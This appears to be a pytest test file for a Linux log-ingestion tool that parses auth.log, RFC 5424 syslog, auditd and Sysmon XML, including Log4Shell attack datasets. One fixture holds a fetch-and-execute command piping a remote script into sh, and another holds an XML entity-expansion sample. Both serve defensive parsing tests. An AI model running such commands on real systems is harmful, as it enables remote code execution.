"""Linux formats: auth.log syslog, RFC 5424, auditd (raw and AUOMS rows), Sysmon for Linux."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import corpus
from watchfloor.ingest import IngestSummary, ingest_paths
from watchfloor.ingest.formats.auditd import parse_audit
from watchfloor.ingest.formats.syslog import parse_syslog, route_line
from watchfloor.ingest.formats.sysmon_linux import parse_sysmon_xml
from watchfloor.store import DuckDBEventStore

AUTH_LOG = ("linux-auth", "elastic-beats-filebeat-system-auth", "test.log")
LOG4SHELL = ("security-datasets", "compound", "Log4Shell")


def _ingest(tmp_path: Path, *paths: Path) -> tuple[DuckDBEventStore, IngestSummary]:
    store = DuckDBEventStore(tmp_path / "events")
    return store, ingest_paths(list(paths), store, tmp_path / "quarantine")


def _rows(store: DuckDBEventStore, sql: str) -> list[dict[str, Any]]:
    return store.query(sql).to_pylist()


def _write(tmp_path: Path, name: str, lines: list[str]) -> Path:
    path = tmp_path / name
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


# -- syslog / auth.log -----------------------------------------------------------------------------


def test_auth_log_lines_give_users_addresses_and_outcomes(tmp_path: Path) -> None:
    store, summary = _ingest(tmp_path, corpus(*AUTH_LOG))
    assert [(f.format, f.events, f.quarantined, f.error) for f in summary.files] == [("syslog", 10, 0, None)]
    assert _rows(store, "SELECT count(*) AS n FROM events") == [{"n": 10}]
    rows = _rows(
        store,
        "SELECT metadata_origin_position AS line, actor_user_name AS user, src_endpoint_ip AS ip, "
        "src_endpoint_port AS port, status, class_uid, device_hostname AS host "
        "FROM events ORDER BY line",
    )
    got = [(r["line"], r["user"], r["ip"], r["port"], r["status"], r["class_uid"], r["host"]) for r in rows]
    assert got == [
        (1, "vagrant", "10.0.2.2", 63673, "Success", 3002, "localhost"),
        (2, "vagrant", "192.168.33.1", 58803, "Success", 3002, "localhost"),
        (3, "test", "10.0.2.2", None, "Failure", 3002, "localhost"),
        (4, "root", "216.160.83.57", 29160, "Failure", 3002, "slave22"),
        (5, "vagrant", None, None, "Success", 3003, "localhost"),
        (6, None, "2.125.160.217", None, None, 0, "slave22"),
        (7, "vagrant", None, None, "Success", 3003, "localhost"),
        (8, "tsg", None, None, "Failure", 3003, "precise32"),
        (9, None, None, None, None, 3006, "localhost"),
        (10, None, None, None, None, 3001, "localhost"),
    ]
    producer = _rows(
        store,
        "SELECT appname, procid, auth_method, target_user, command, sudo_error, group_name, uid, shell, "
        "timestamp_text FROM syslog ORDER BY ocsf.metadata_origin_position",
    )
    assert producer[0]["auth_method"] == "publickey" and producer[0]["procid"] == "3402"
    assert producer[3]["auth_method"] == "password"
    assert producer[6]["command"] == "/bin/cat /var/log/secure" and producer[6]["target_user"] == "root"
    assert producer[7]["sudo_error"] == "user NOT in sudoers"
    assert producer[8]["group_name"] == "apache"
    assert (producer[9]["target_user"], producer[9]["uid"], producer[9]["shell"]) == (
        "apache",
        "48",
        "/sbin/nologin",
    )
    assert producer[0]["timestamp_text"] == "Feb 21 21:54:44"
    latest = _rows(store, "SELECT max(time) AS t FROM events")[0]["t"]
    assert latest <= dt.datetime.now(dt.UTC) + dt.timedelta(days=1)


def test_rfc3164_year_is_never_in_the_future() -> None:
    now = dt.datetime(2026, 1, 5, 12, 0, tzinfo=dt.UTC)
    assert parse_syslog("Dec 31 23:59:59 h cron[1]: x", now=now)["timestamp"] == "2025-12-31T23:59:59"
    assert parse_syslog("Jan  5 11:00:00 h cron[1]: x", now=now)["timestamp"] == "2026-01-05T11:00:00"
    leap = parse_syslog("Feb 29 10:00:00 h app: y", now=now)
    assert leap["timestamp"] == "2024-02-29T10:00:00" and leap["timestamp_text"] == "Feb 29 10:00:00"


def test_parse_syslog_priority_and_rfc5424_structured_data() -> None:
    fields = parse_syslog(
        '<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog 42 ID47 [exampleSDID@32473 iut="3" '
        'eventSource="App\\"lication"][examplePriority@32473 class="high"] \ufeffAn application event'
    )
    assert fields["facility"] == "local4" and fields["severity"] == "notice"
    assert (fields["hostname"], fields["appname"], fields["procid"], fields["msgid"]) == (
        "mymachine.example.com",
        "evntslog",
        "42",
        "ID47",
    )
    assert fields["sd.exampleSDID@32473.iut"] == "3"
    assert fields["sd.exampleSDID@32473.eventSource"] == 'App"lication'
    assert fields["sd.examplePriority@32473.class"] == "high"
    assert fields["message"] == "An application event"
    nil = parse_syslog("<13>1 - - - - - -")
    assert nil["timestamp"] is None and nil["message"] is None and nil["severity"] == "notice"
    for bad in ("hello world", "<999>Oct 11 22:14:15 host app: x", "2024-01-01T00:00:00Z INFO started"):
        with pytest.raises(ValueError):
            parse_syslog(bad)


def test_rfc5424_and_malformed_lines_in_a_file(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "messages",
        [
            '<86>1 2024-03-01T10:00:00.000+01:00 web1 sshd 811 - [origin ip="10.1.1.1"] '
            "Failed password for invalid user admin from 203.0.113.9 port 50122 ssh2",
            "<38>Mar  1 10:00:01 web1 sshd[811]: "
            "pam_unix(sshd:session): session opened for user bob by (uid=0)",
            "this line is not syslog at all",
            '<86>1 2024-03-01T10:00:02Z web1 app - - [broken param="x" no-close',
            "<38>Mar  1 10:00:03 web1 sudo: bob : TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/id -u",
        ],
    )
    store, summary = _ingest(tmp_path, path)
    result = summary.files[0]
    assert (result.format, result.events, result.quarantined) == ("syslog", 3, 2)
    quarantined = (tmp_path / "quarantine").glob("*.jsonl")
    text = "".join(p.read_text() for p in quarantined)
    assert '"position":3' in text and '"position":4' in text and "unterminated structured data" in text
    rows = _rows(
        store,
        'SELECT "sd.origin.ip" AS sd, user, invalid_user, ocsf.actor_user_name AS actor, '
        "ocsf.status AS status, "
        "ocsf.time AS t, ocsf.severity_id AS sev, ocsf.class_uid AS c FROM syslog "
        "ORDER BY ocsf.metadata_origin_position",
    )
    assert rows[0]["sd"] == "10.1.1.1" and rows[0]["invalid_user"] == "true"
    assert (rows[0]["actor"], rows[0]["status"], rows[0]["c"]) == ("admin", "Failure", 3002)
    assert rows[0]["t"] == dt.datetime(2024, 3, 1, 9, 0, tzinfo=dt.UTC)
    assert rows[0]["sev"] == 1  # facility auth (10), severity info (6)
    assert (rows[1]["actor"], rows[1]["c"]) == ("bob", 3002)
    assert (rows[2]["actor"], rows[2]["c"]) == ("bob", 3003)


# -- auditd ----------------------------------------------------------------------------------------


def test_parse_audit_decodes_quoted_hex_and_nested_values() -> None:
    fields = parse_audit(
        "type=PROCTITLE msg=audit(1604996384.965:93777): proctitle=64640069663D2F6465762F7A65726F"
    )
    assert fields == {
        "type": "PROCTITLE",
        "audit_time": "1604996384.965",
        "audit_serial": "93777",
        "proctitle": "dd if=/dev/zero",
    }
    login = parse_audit(
        "type=USER_LOGIN msg=audit(1604998000.123:456): pid=1 uid=0 auid=1000 ses=3 "
        'msg=\'op=login acct="root" exe="/usr/sbin/sshd" addr=10.0.0.1 terminal=sshd res=failed\''
    )
    assert (login["op"], login["acct"], login["addr"], login["res"]) == (
        "login",
        "root",
        "10.0.0.1",
        "failed",
    )
    assert parse_audit("type=USER_CMD msg=audit(1.2:3): cmd=6C73202D6C61")["cmd"] == "ls -la"
    execve = parse_audit('type=EXECVE msg=audit(1.2:3): argc=2 a0="echo" a1=68656C6C6F20776F726C64')
    assert execve["cmdline"] == "echo hello world"
    with pytest.raises(ValueError):
        parse_audit("type=SYSCALL without a stamp")


def test_atomic_linux_auditd_archives(tmp_path: Path) -> None:
    folder = corpus("security-datasets", "atomic", "linux")
    store, summary = _ingest(tmp_path, folder)
    by_name = {Path(f.path.split("!")[-1]).name: f for f in summary.files}
    dd = by_name["sh_binary_padding_dd_2020-11-10081941.log"]
    arp = by_name["sh_arp_cache_2020-11-10074812.log"]
    assert (dd.format, dd.events, dd.quarantined) == ("auditd", 6, 0)
    assert (arp.format, arp.events, arp.quarantined) == ("auditd", 12, 0)
    assert _rows(store, "SELECT count(*) AS n FROM events") == [{"n": 18}]
    types = _rows(store, "SELECT type, count(*) AS n FROM auditd GROUP BY type ORDER BY type")
    assert types == [
        {"type": "CWD", "n": 3},
        {"type": "EXECVE", "n": 3},
        {"type": "PATH", "n": 6},
        {"type": "PROCTITLE", "n": 3},
        {"type": "SYSCALL", "n": 3},
    ]
    syscall = _rows(
        store,
        "SELECT exe, comm, syscall, audit_serial, ocsf.process_file_path AS path, ocsf.process_name AS name, "
        "ocsf.process_pid AS pid, ocsf.process_parent_process_pid AS ppid, ocsf.actor_user_name AS uid, "
        "ocsf.time AS t FROM auditd WHERE type = 'SYSCALL' AND comm = 'dd'",
    )[0]
    assert (syscall["exe"], syscall["syscall"], syscall["audit_serial"]) == ("/bin/dd", "59", "93777")
    assert (syscall["path"], syscall["name"], syscall["pid"], syscall["ppid"]) == (
        "/bin/dd",
        "dd",
        2168,
        29002,
    )
    assert syscall["uid"] == "1000"
    assert syscall["t"] == dt.datetime(2020, 11, 10, 8, 19, 44, 965000, tzinfo=dt.UTC)
    execve = _rows(
        store,
        "SELECT a0, a1, ocsf.process_cmd_line AS cmd, ocsf.class_uid AS c FROM auditd "
        "WHERE type = 'EXECVE' AND audit_serial = '93777'",
    )
    assert execve == [{"a0": "dd", "a1": "if=/dev/zero", "cmd": "dd if=/dev/zero bs=1 count=1", "c": 1007}]
    titles = _rows(store, "SELECT proctitle FROM auditd WHERE type = 'PROCTITLE' ORDER BY audit_serial")
    assert [r["proctitle"] for r in titles] == ["arp -a", "grep -v ^?", "dd if=/dev/zero bs=1 count=1"]
    cwd = _rows(store, "SELECT ocsf.file_path AS f FROM auditd WHERE type = 'CWD' LIMIT 1")
    assert cwd == [{"f": "/home/wardog"}]


def test_auoms_rows_of_a_sentinel_syslog_table(tmp_path: Path) -> None:
    archive = corpus(*LOG4SHELL, "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip")
    store, summary = _ingest(tmp_path, archive)
    result = summary.files[0]
    assert (result.format, result.events, result.quarantined) == ("auditd-sentinel", 50, 0)
    assert summary.by_source == {"auditd": 50}
    row = _rows(
        store,
        "SELECT type, audit_serial, user, exe, key, HostIP, ocsf.process_file_path AS path, "
        "ocsf.actor_user_name AS actor, ocsf.device_hostname AS host, ocsf.class_uid AS c, "
        "ocsf.process_cmd_line AS cmd, ocsf.time AS t FROM auditd ORDER BY audit_serial LIMIT 1",
    )[0]
    assert (row["type"], row["audit_serial"], row["user"], row["key"]) == (
        "AUOMS_EXECVE",
        "84138",
        "tomcat",
        "auoms,delete",
    )
    assert row["path"] == row["exe"] == "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java"
    assert (row["actor"], row["host"], row["c"], row["HostIP"]) == ("tomcat", "UBUNTU5", 1007, "192.168.2.5")
    assert row["cmd"].startswith("/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java -Djava.util.logging")
    assert row["t"] == dt.datetime(2022, 5, 11, 18, 10, 21, 986000, tzinfo=dt.UTC)


def test_audit_record_after_a_syslog_header() -> None:
    source, fields = route_line(
        "Nov 10 08:19:44 ubuntu audispd: node=ubuntu type=EXECVE msg=audit(1604996384.965:93777): "
        'argc=2 a0="id" a1="-u"'
    )
    assert source == "auditd"
    assert (fields["node"], fields["cmdline"], fields["syslog.appname"]) == ("ubuntu", "id -u", "audispd")


# -- Sysmon for Linux ------------------------------------------------------------------------------

SYSMON_XML = (
    '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
    "<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task>"
    '<TimeCreated SystemTime="2024-05-01T12:00:00.123456000Z"/><EventRecordID>77</EventRecordID>'
    '<Execution ProcessID="900" ThreadID="900"/><Channel>Linux-Sysmon/Operational</Channel>'
    '<Computer>lab1</Computer><Security UserId="0"/></System><EventData>'
    '<Data Name="UtcTime">2024-05-01 12:00:00.120</Data><Data Name="ProcessId">4242</Data>'
    '<Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s http://x/a.sh | sh</Data>'
    '<Data Name="User">alice</Data><Data Name="ParentProcessId">4000</Data>'
    '<Data Name="ParentImage">/bin/bash</Data><Data Name="ParentCommandLine">bash</Data>'
    "</EventData></Event>"
)


def test_sysmon_xml_in_syslog_lines(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "syslog",
        [
            f"May  1 12:00:00 lab1 sysmon: {SYSMON_XML}",
            f"<14>May  1 12:00:01 lab1 sysmon[900]: {SYSMON_XML.replace('<EventID>1<', '<EventID>5<')}",
            "May  1 12:00:02 lab1 sysmon: <Event><System><EventID>1</EventID></System><EventData><Data",
            "May  1 12:00:03 lab1 sysmon: <!DOCTYPE x [<!ENTITY a 'b'>]>"
            "<Event><System><EventID>&a;</EventID></System></Event>",
        ],
    )
    store, summary = _ingest(tmp_path, path)
    result = summary.files[0]
    assert (result.format, result.events, result.quarantined) == ("sysmon-linux", 2, 2)
    rows = _rows(
        store,
        "SELECT EventID, Image, CommandLine, ParentImage, User, ProcessId, Provider_Name, "
        '"syslog.hostname" AS h, '
        "ocsf.class_uid AS c, ocsf.activity_id AS a, ocsf.process_pid AS pid, ocsf.process_name AS name, "
        "ocsf.process_parent_process_file_path AS parent, ocsf.actor_user_name AS actor, "
        "ocsf.device_hostname AS host, ocsf.time AS t FROM sysmon_linux ORDER BY EventID",
    )
    first = rows[0]
    assert (first["EventID"], first["Image"], first["CommandLine"]) == (
        "1",
        "/usr/bin/curl",
        "curl -s http://x/a.sh | sh",
    )
    assert (first["ParentImage"], first["User"], first["ProcessId"], first["h"]) == (
        "/bin/bash",
        "alice",
        "4242",
        "lab1",
    )
    assert first["Provider_Name"] == "Linux-Sysmon"
    assert (first["c"], first["a"], first["pid"], first["name"], first["parent"]) == (
        1007,
        1,
        4242,
        "curl",
        "/bin/bash",
    )
    assert (first["actor"], first["host"]) == ("alice", "lab1")
    assert first["t"] == dt.datetime(2024, 5, 1, 12, 0, 0, 123456, tzinfo=dt.UTC)
    assert (rows[1]["EventID"], rows[1]["c"], rows[1]["a"]) == ("5", 1007, 2)
    reasons = "".join(p.read_text() for p in (tmp_path / "quarantine").glob("*.jsonl"))
    assert '"position":3' in reasons and '"position":4' in reasons and "invalid Sysmon XML" in reasons


def test_sysmon_xml_repairs_and_truncation() -> None:
    fields = parse_sysmon_xml(
        "<Event><System><EventID>5</EventID></System><EventData>"
        '<Data Name="Image">&lt unknown process&gt </Data>'
        "</EventData></Event>"
    )
    assert fields["Image"] == "<unknown process>"
    cut = parse_sysmon_xml(SYSMON_XML[: SYSMON_XML.index("bash</Data></EventData>") + 2])
    assert cut["ParentImage"] == "/bin/bash" and cut["ParentCommandLine"] == "ba"
    assert cut["xml_truncated"] == "ParentCommandLine"
    with pytest.raises(ValueError, match="invalid Sysmon XML"):
        parse_sysmon_xml("<Event><System><EventID>1</EventID></System><Event")
    bomb = (
        '<!DOCTYPE Event [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
        "<Event><System><EventID>&b;</EventID></System></Event>"
    )
    with pytest.raises(ValueError, match="DOCTYPE or ENTITY"):
        parse_sysmon_xml(bomb)


def test_sysmon_for_linux_sentinel_rows(tmp_path: Path) -> None:
    archive = corpus(*LOG4SHELL, "syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip")
    store, summary = _ingest(tmp_path, archive)
    result = summary.files[0]
    assert (result.format, result.events, result.quarantined) == ("sysmon-linux-sentinel", 93, 0)
    counts = _rows(store, "SELECT EventID, count(*) AS n FROM sysmon_linux GROUP BY 1 ORDER BY 1")
    assert {r["EventID"]: r["n"] for r in counts} == {"1": 31, "3": 6, "5": 50, "11": 4, "23": 2}
    assert _rows(store, "SELECT count(*) AS n FROM sysmon_linux WHERE xml_truncated IS NOT NULL") == [
        {"n": 1}
    ]
    reverse_shell = _rows(
        store,
        "SELECT Image, ParentImage, User, ocsf.class_uid AS c, ocsf.process_cmd_line AS cmd, "
        "ocsf.device_hostname AS host FROM sysmon_linux WHERE EventID = '1' AND CommandLine LIKE '%base64%' "
        "ORDER BY ocsf.time LIMIT 1",
    )[0]
    assert reverse_shell["Image"] == "/bin/bash" and reverse_shell["User"] == "tomcat"
    assert reverse_shell["ParentImage"] == "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java"
    assert (reverse_shell["c"], reverse_shell["host"]) == (1007, "UBUNTU5")
    assert reverse_shell["cmd"].startswith("bash -c {echo,")
    network = _rows(
        store,
        "SELECT ocsf.dst_endpoint_ip AS ip, ocsf.dst_endpoint_port AS port, ocsf.class_uid AS c "
        "FROM sysmon_linux WHERE EventID = '3' AND DestinationIp = '104.46.127.225' LIMIT 1",
    )
    assert network == [{"ip": "104.46.127.225", "port": 443, "c": 4001}]
    unknown = _rows(store, "SELECT count(*) AS n FROM sysmon_linux WHERE Image = '<unknown process>'")
    assert unknown == [{"n": 14}]  # written as `&lt unknown process&gt ` by Sysmon, repaired


def test_plain_sentinel_syslog_rows_get_syslog_names(tmp_path: Path) -> None:
    rows = [
        {
            "TimeGenerated": "2024-04-02T08:00:01.5Z",
            "EventTime": "2024-04-02T08:00:01Z",
            "Computer": "bastion",
            "HostName": "bastion",
            "Facility": "authpriv",
            "SeverityLevel": "info",
            "ProcessName": "sshd",
            "ProcessID": 2211,
            "SyslogMessage": "Failed password for invalid user oracle from 198.51.100.7 port 40022 ssh2",
            "Type": "Syslog",
        },
        {
            "TimeGenerated": "2024-04-02T08:00:02Z",
            "EventTime": "2024-04-02T08:00:02Z",
            "HostName": "bastion",
            "ProcessName": "sysmon",
            "SyslogMessage": SYSMON_XML,
            "Type": "Syslog",
        },
    ]
    path = tmp_path / "syslog_table.json"
    path.write_text("\n".join(json.dumps(r) for r in rows) + "\n", encoding="utf-8")
    store, summary = _ingest(tmp_path, path)
    assert summary.files[0].format == "syslog-sentinel"
    assert summary.by_source == {"syslog": 1, "sysmon_linux": 1}
    row = _rows(
        store,
        "SELECT appname, procid, facility, ocsf.actor_user_name AS user, ocsf.src_endpoint_ip AS ip, "
        "ocsf.status AS status, ocsf.class_uid AS c, ocsf.device_hostname AS host, ocsf.time AS t "
        "FROM syslog",
    )[0]
    assert (row["appname"], row["procid"], row["facility"]) == ("sshd", "2211", "authpriv")
    assert (row["user"], row["ip"], row["status"], row["c"], row["host"]) == (
        "oracle",
        "198.51.100.7",
        "Failure",
        3002,
        "bastion",
    )
    assert row["t"] == dt.datetime(2024, 4, 2, 8, 0, 1, tzinfo=dt.UTC)
    assert _rows(store, "SELECT Image FROM sysmon_linux") == [{"Image": "/usr/bin/curl"}]
